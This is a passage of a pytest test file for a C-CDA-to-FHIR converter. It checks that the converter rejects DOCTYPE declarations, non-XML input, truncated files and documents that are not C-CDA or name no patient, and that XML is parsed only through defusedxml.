    data = b'<!DOCTYPE ClinicalDocument SYSTEM "cda.dtd"><ClinicalDocument xmlns="urn:hl7-org:v3"/>'
    with pytest.raises(CcdaError, match=r"document type declaration"):
        ccda_to_bundle(data)


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b'{"resourceType": "Bundle"}', b"\x00\x01binary"],
    ids=["pdf", "json", "binary"],
)
def test_non_xml_is_refused(data):
    with pytest.raises(CcdaError, match=r"^This file is not XML"):
        ccda_to_bundle(data)


def test_empty_file_is_refused():
    with pytest.raises(CcdaError, match=r"^This file is empty"):
        ccda_to_bundle(b"  \n")


@pytest.mark.parametrize(
    ("data", "detail"),
    [
        (b"<html><body><p>Download your record</p></body></html>", "main element is <html>"),
        (b'<Patient xmlns="http://hl7.org/fhir"><id value="x"/></Patient>', "<Patient>"),
        (b'<ClinicalDocument xmlns="urn:example"/>', "not in the HL7 v3 namespace"),
        (
            b'<ClinicalDocument xmlns="urn:hl7-org:v3">'
            b'<templateId root="2.16.840.1.113883.10.20.1"/></ClinicalDocument>',
            "without the C-CDA template",
        ),
    ],
    ids=["html", "fhir-xml", "wrong-namespace", "old-ccd"],
)
def test_xml_that_is_not_a_ccda_is_refused(data, detail):
    with pytest.raises(CcdaError, match=r"^This file is not a C-CDA document") as caught:
        ccda_to_bundle(data)
    assert detail in str(caught.value)


def test_truncated_ccda_is_refused():
    data = document(vitals_section(vital("29463-7", "12.5", "kg", "20130915")))
    with pytest.raises(CcdaError, match=r"not well-formed XML \(.*line \d+.*cut short"):
        ccda_to_bundle(data[: len(data) // 2])


@needs_samples
def test_truncated_shared_sample_is_refused():
    data = (DATA / "hl7-examples/CCD_1.xml").read_bytes()
    with pytest.raises(CcdaError, match=r"not well-formed XML.*cut short"):
        ccda_to_bundle(data[:-200])


def test_document_without_patient_is_refused():
    with pytest.raises(CcdaError, match=r"names no patient"):
        ccda_to_bundle(document(patient=""))


def test_other_encodings_and_str_input_are_accepted():
    data = document()
    utf16 = data.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert ccda_to_bundle(utf16) == ccda_to_bundle(data) == ccda_to_bundle(data.decode())


def test_module_parses_xml_only_through_defusedxml():
    package = Path(ccda.__file__).parent
    modules = sorted(package.rglob("*.py"))
    assert package / "guard.py" in modules
    for module in modules:
        source = module.read_text()
        assert not re.search(r"^\s*(import|from)\s+(xml|lxml)\b", source, re.M), module
    assert "from defusedxml import ElementTree as SafeET" in (package / "guard.py").read_text()
